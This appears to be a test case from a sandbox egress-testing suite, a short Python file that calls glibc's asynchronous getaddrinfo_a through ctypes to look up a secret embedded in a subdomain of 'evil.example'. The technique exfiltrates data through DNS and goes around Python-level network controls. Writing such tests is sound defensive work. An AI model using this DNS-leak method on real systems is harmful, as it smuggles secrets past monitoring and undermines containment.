# class: network
# rule: outbound_connectivity
# also: native_code
# success: a name that carries data is looked up in the background
# proof: query
# needs: resolver glibc>=2.34
import ctypes

from attack import SECRET, attempt, libc


class Request(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_char_p),
        ("service", ctypes.c_char_p),
        ("hints", ctypes.c_void_p),
        ("result", ctypes.c_void_p),
        ("state", ctypes.c_int),
        ("unused", ctypes.c_int * 5),
    ]


@attempt
def ask():
    request = Request((SECRET + ".evil.example").encode(), b"443")
    requests = (ctypes.c_void_p * 1)(ctypes.addressof(request))
    return libc().getaddrinfo_a(0, requests, 1, None) == 0 and bool(request.result)
